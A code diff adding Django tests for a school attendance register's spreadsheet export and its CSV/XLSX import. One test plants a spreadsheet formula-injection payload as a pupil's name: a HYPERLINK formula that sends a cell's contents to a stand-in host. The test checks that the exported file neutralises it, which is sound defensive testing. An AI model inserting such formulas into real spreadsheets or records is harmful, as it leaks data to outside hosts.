@@ -6,7 +6,7 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from ponleu.audit.models import AccessEvent
 from ponleu.common import clock
@@ -143,3 +143,69 @@ def test_the_api_upload_is_idempotent_and_versioned(world, login_as, today):
     holiday = client.post(url, {"date": "2026-05-05", "statuses": {}}, content_type="application/json")
     assert holiday.status_code == 422
     assert "public holiday" in holiday.json()["errors"]["date"][0]
+
+
+def test_the_register_template_writes_no_formula_and_its_names_import_back(world, login_as, today):
+    school_class, pupils = class_with_pupils(world, 1)
+    person = pupils[0].person
+    person.family_name_latin = '=HYPERLINK("http://x.example/?d="&B2,"Sok")'
+    person.save()
+    client = login_as(world.user("teacher"))
+    response = client.get(
+        reverse("education:attendance_template", kwargs={"class_id": school_class.pk}),
+        {"month": "2026-05-01"},
+    )
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    name = book.active["A2"].value
+    assert name == "'" + person.display_name("en")
+    # Filled in and sent back, the neutralised name is still this pupil.
+    book.active["B2"] = "A"
+    content = io.BytesIO()
+    book.save(content)
+    upload = io.BytesIO(content.getvalue())
+    upload.name = "register.xlsx"
+    url = reverse("education:attendance_import", kwargs={"class_id": school_class.pk})
+    response = client.post(url, {"file": upload, "confirm": "on"})
+    assert response.status_code == 302, response.content.decode()
+    assert AttendanceMonth.objects.get(enrolment=pupils[0]).statuses.strip(".") == "A"
+
+
+def _post_csv(client, school_class, content: bytes):
+    upload = io.BytesIO(content)
+    upload.name = "register.csv"
+    url = reverse("education:attendance_import", kwargs={"class_id": school_class.pk})
+    return client.post(url, {"file": upload, "confirm": "on"})
+
+
+def test_a_csv_register_not_in_unicode_is_refused_in_the_users_language(world, login_as, today):
+    school_class, pupils = class_with_pupils(world, 1)
+    teacher = world.user("teacher")
+    teacher.language = "km"
+    teacher.save()
+    client = login_as(teacher)
+    name = pupils[0].person.display_name("en")
+    response = _post_csv(client, school_class, f"Pupil,2026-05-11\n{name} é,P\n".encode("cp1252"))
+    assert response.status_code == 400
+    body = response.content.decode()
+    assert "UTF-8" in body
+    assert "codec" not in body
+    assert "ឯកសារ CSV នេះ" in body  # the Khmer message
+    assert not AttendanceMonth.objects.exists()
+
+
+@pytest.mark.parametrize(
+    ("encoding", "delimiter"), [("utf-16", "\t"), ("utf-16-be", ","), ("utf-8-sig", ";"), ("utf-8", ",")]
+)
+def test_a_csv_register_in_utf16_or_with_semicolons_imports(world, login_as, today, encoding, delimiter):
+    school_class, pupils = class_with_pupils(world, 1)
+    client = login_as(world.user("teacher"))
+    text = f"សិស្ស{delimiter}2026-05-11\n{pupils[0].person.display_name('km')}{delimiter}អ\n"
+    content = text.encode(encoding)
+    if encoding == "utf-16-be":
+        content = b"\xfe\xff" + content
+    response = _post_csv(client, school_class, content)
+    assert response.status_code == 302, response.content.decode()
+    assert AttendanceMonth.objects.get(enrolment=pupils[0]).statuses[10] == "A"
